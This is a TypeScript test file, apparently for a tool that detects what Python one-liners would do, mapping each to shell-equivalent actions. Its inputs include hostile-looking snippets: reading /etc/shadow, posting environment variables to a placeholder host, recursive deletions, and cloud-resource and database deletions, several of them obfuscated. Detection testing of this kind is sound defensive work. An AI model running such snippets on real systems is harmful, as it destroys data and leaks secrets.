import assert from 'node:assert/strict';
import { python } from '../../../src/core/code/python';
import { read } from './checkCode';

/** Code in forms that are seldom written, and what it would start and change. */
const rows: readonly (readonly [code: string, found: readonly string[]])[] = [
  ['import os; os.system(compile())', ['$ …', '?dynamic present']],
  [
    "from pathlib import Path; Path().unlink(); Path('/srv').iterdir().unlink()",
    ['rm -f -- .', 'rm -f -- …', '?dynamic present'],
  ],
  [
    "from pathlib import Path\nfor p in Path('/srv').iterdir(): p.unlink()\nfor q in Path('/srv').glob('*.db'): q.unlink()\nfor r in Path('/srv').rglob('*.log'): r.unlink()",
    ['$ rm -f -- /srv/*', '$ rm -f -- /srv/*.db', '$ rm -f -- /srv/**/*.log'],
  ],
  [
    "import os; from pathlib import Path; os.system('rm -rf ' + Path('/srv').as_posix()); os.remove(Path('/srv').joinpath('a', 'b')); os.remove(Path('a').name)",
    ['$ rm -rf /srv', 'rm -f -- /srv/a/b', 'rm -f -- …', '?dynamic present'],
  ],
  [
    "from dotenv import dotenv_values; print(dotenv_values(dotenv_path='.env.prod')); print(open(file='/etc/shadow').read())",
    ['cat .env.prod', 'cat /etc/shadow'],
  ],
  [
    "import codecs, os; os.system(codecs.decode('yf -y', 'rot13')); os.system(codecs.decode(x, 'rot13')); os.system(codecs.decode('bHM=', 'base64')); os.system(codecs.decode('6c73', 'hex'))",
    ['$ ls -l', '$ …', '$ ls', '$ ls', '?dynamic present'],
  ],
  ['import os; os.system(chr(108) + chr(115)); os.system(chr(x))', ['$ ls', '$ …', '?dynamic present']],
  [
    "import glob, os\nfor f in glob.glob(pathname='*.sql', root_dir='/srv'): os.remove(f)\nfor g in glob.glob(x): os.remove(g)",
    ['$ rm -f -- /srv/*.sql', 'rm -f -- …', '?dynamic present'],
  ],
  ["from os import *\nsystem('ls'); getenv('HOME')", ['$ ls']],
  ["import os; getattr(os, 'system')('ls'); getattr(x(), 'y')('ls')", ['$ ls']],
  [
    "import json, os, requests; requests.post('https://h', data=json.dumps(dict(os.environ))); json.dumps()",
    ['$ curl -X POST -d "$(env)" \'https://h\''],
  ],
  [
    "import os; os.system(x + y); os.system('ls %s' % ('a',)); os.system(a % b); os.system('{} {1} {n}'.format('rm', 'x', n='y'))",
    ['$ …', '$ ls a', '$ …', '$ rm x y', '?dynamic present', '?dynamic present'],
  ],
  [
    '__builtins__.exec(\'import os; os.system("ls")\'); import builtins; builtins.eval(\'__import__("os").system("id")\')',
    ['$ ls', '$ id'],
  ],
  [
    "import boto3; boto3.client('rds').delete_db_instance(**{'DBInstanceIdentifier': 'x'}); boto3.client('rds').delete_db_instance(**o)",
    ['aws rds delete-db-instance --db-instance-identifier x', 'aws rds delete-db-instance'],
  ],
  ["import os; c = ['ls', 'id']; os.system(c[1]); os.system(c[7])", ['$ id', '$ …', '?dynamic present']],
  [
    "import numpy as np, os as o; from shutil import rmtree as rt; rt('/srv'); o.system('ls')",
    ['$ ls', 'rm -r -f -- /srv'],
  ],
  ["import boto3; from boto3 import *\nclient('s3').delete_bucket(Bucket='b')", ['aws s3api delete-bucket --bucket b']],
  ["import os\nfor a, b in [('x', 'y')]: os.remove(a); os.remove(b)", ['rm -f -- x', 'rm -f -- y']],
  ['import os\nfor a, b in pairs: os.remove(a)', ['rm -f -- …', '?dynamic present']],
  [
    "import shutil, os; shutil.chown('/srv', user='root', group='root'); shutil.chown('/srv', 'root'); os.chmod('/srv', mode=0o777); os.chown('/srv', 0, 0)",
    ['chown root:root /srv', 'chown root: /srv', 'chmod 777 /srv', 'chown 0:0 /srv'],
  ],
  ["from pathlib import Path; Path('f').open(mode='w'); Path('f').open(); Path('g').open('r')", ['> /home/dev/shop/f']],
  [
    "import os; os.system('a,b'.replace(x, 'y')); os.system('-'.join(['ls', 'x'])); os.system('ls'.casefold()); os.system('ls'.upper())",
    ['$ …', '$ ls-x', '$ …', '$ LS', '?dynamic present', '?dynamic present'],
  ],
  [
    "import requests; print(requests.get('https://h').text); requests.post('https://h', data=requests.get('https://g').content)",
    ['curl https://h', 'curl -X POST https://h', 'curl https://g'],
  ],
  [
    "import requests, os; requests.post('https://h', data=open(x).read()); print(open(x).read()); print(os.environ[x])",
    ['curl -X POST https://h'],
  ],
  ["import requests, os; requests.post('https://h', data=os.environ[x])", ['curl -X POST https://h']],
  [
    "import requests; requests.delete(); requests.request('DELETE', 'https://h/1'); import urllib.request as u; u.urlopen(u.Request(data=b'1')); import http.client as h; h.HTTPConnection('h').request('DELETE', '/x')",
    ['curl -X DELETE …', 'curl -X DELETE https://h/1', 'curl -X POST -d 1 …', 'curl -X DELETE http://h/x'],
  ],
  ["from github import Github; Github('t').get_repo('o/r').get_issue(1).delete()", []],
  [
    "import boto3; boto3.resource('dynamodb').Table('t').delete(); boto3.resource('s3').Bucket().delete(); boto3.client(service_name='s3').delete_bucket(Bucket='b')",
    [
      'aws dynamodb delete-table --table-name t',
      'aws s3api delete-bucket --bucket …',
      'aws s3api delete-bucket --bucket b',
    ],
  ],
  [
    "import boto3; boto3.resource('ec2').Instance('i-1').terminate(); boto3.resource('iam').Role('r').delete(); boto3.resource('odd').Thing('r').delete()",
    ['aws ec2 terminate-instances --instance-ids i-1', 'aws iam delete-role --name r', 'aws odd delete-thing --name r'],
  ],
  [
    "import sqlalchemy as s; s.create_engine().execute('DROP TABLE t'); import duckdb; duckdb.connect('a.db').sql(query='DROP TABLE t'); import sqlite3; sqlite3.connect(':memory:').execute(statement='DROP TABLE t')",
    ['psql -c DROP TABLE t', 'duckdb a.db -c DROP TABLE t', 'sqlite3 :memory: DROP TABLE t'],
  ],
  [
    "from google.cloud import compute_v1, dataproc_v1; compute_v1.AddressesClient().delete(address='a'); compute_v1.SecurityPoliciesClient().delete(security_policy='p'); from google.cloud import kms_v1; kms_v1.X().delete_proxy()",
    ['gcloud compute addresses delete …', 'gcloud compute security-policies delete p'],
  ],
  [
    "from google.cloud import networkservices_v1 as n; n.NetworkServicesClient().delete_mesh(name='m'); n.NetworkServicesClient().delete_policy(name='p')",
    ['gcloud networkservices meshes delete m', 'gcloud networkservices policies delete p'],
  ],
  [
    "from googleapiclient import discovery; discovery.build('cloudresourcemanager', 'v1').projects().delete(projectId='p').execute(); discovery.build('compute', 'v1').disks().delete()",
    ['gcloud projects delete p', 'gcloud compute disks delete …'],
  ],
  [
    "import firebase_admin; from firebase_admin import firestore, db; firestore.client().collection().delete(); db.reference('/users').delete(); db.reference('/u').set(None)",
    ['firebase firestore:delete …', 'firebase database:remove /users', 'firebase database:remove /u'],
  ],
  [
    "import docker; docker.from_env().containers.run('a', volumes=x); docker.from_env().containers.run('a', volumes={'/': '/h'}); docker.from_env().images.remove()",
    ['docker run a', 'docker run -v /:… a', 'docker image rm …'],
  ],
  [
    "import os; os.system('\\141\\x62\\u0041'); os.system('\\U00110000'); os.system(\"\\N{DASH}\")",
    ['$ abA', '$ \\U00110000', '$ N{DASH}'],
  ],
  [
    "import bytes; import os; os.system(bytes.fromhex('zz')); os.system(bytes.fromhex(''))",
    ['$ …', '$ …', '?dynamic present', '?dynamic present'],
  ],
  ['exec(exec("1" + x)); eval(\'f(\' )', ['?dynamic present', '?dynamic present']],
];

describe('python: forms that are seldom written', () => {
  for (const [code, found] of rows) {
    it(code, async () => {
      assert.deepEqual(await read(python, 'python3', { args: ['-c', code] }), found);
    });
  }
});
